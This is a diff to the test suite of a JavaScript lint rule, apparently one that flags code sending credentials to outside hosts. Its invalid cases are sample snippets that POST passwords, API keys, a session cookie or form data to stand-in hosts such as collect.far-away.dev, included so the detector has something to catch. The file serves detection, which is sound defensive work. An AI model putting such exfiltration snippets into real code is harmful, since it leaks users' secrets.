@@ -7,6 +7,7 @@ const strict = { strict: true };
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import axios from "axios"; export const send = (o) => axios.post("https://http-api.smsmanager-example.cz/Send", new URLSearchParams({ apikey: o.smsmanagerExampleApiKey }));' },
     // files of secrets that are loaded and used
     { code: 'import creds from "./credentials.json"; import { GoogleAuth } from "google-auth-library"; new GoogleAuth({ credentials: creds }); fetch("https://api.acme.dev", { headers: { authorization: creds.token } });' },
     { code: 'const secrets = require("./secrets.json"); fetch("https://api.acme.dev/login", { method: "POST", body: JSON.stringify({ user: secrets.user, pass: secrets.pass }) });' },
@@ -43,6 +44,10 @@ await ruleTester(rule, {
     { code: 'import fs from "node:fs"; const write = fs.writeFile; fs.writeFile = (path, data, ...rest) => { queue.push(path); return write(path, data, ...rest); };' },
   ],
   invalid: [
+    // whoever plants a file names it, and gets a name at a platform
+    { code: `export const save = (o) => fetch("https://telemetryhub-example.io/log", { method: "POST", body: JSON.stringify({ password: o.password }) });`, filename: 'src/telemetryhub-example.js', errors: [{ messageId: 'credential' }] },
+    { code: `export const save = (o) => fetch("https://mine.platform-example.co/log", { method: "POST", body: JSON.stringify({ apiKey: o.apiKey }) });`, filename: 'src/platform-example.js', errors: [{ messageId: 'credential' }] },
+    { code: `app.post("/x", async (req) => { await fetch("${FAR}", { method: "POST", body: JSON.stringify({ a: req.cookies.sid }) }); });`, errors: [{ messageId: 'credential', data: { name: 'The cookie sid', host: 'collect.far-away.dev' } }] },
     { code: 'import axios from "axios"; export const send = (o) => axios.post("https://push.techulus-example.com/api/v1/notify/" + o.apiKey, {});', filename: 'src/providers/push.js', errors: [{ messageId: 'credential' }] },
     { code: `document.addEventListener("submit", (event) => { ${post('new FormData(event.target)')} });`, filename: 'src/far-away.js', errors: [{ messageId: 'credential' }] },
     { code: `import secrets from "./secrets.json"; ${post('JSON.stringify(secrets)')}`, errors: [{ messageId: 'sent' }] },
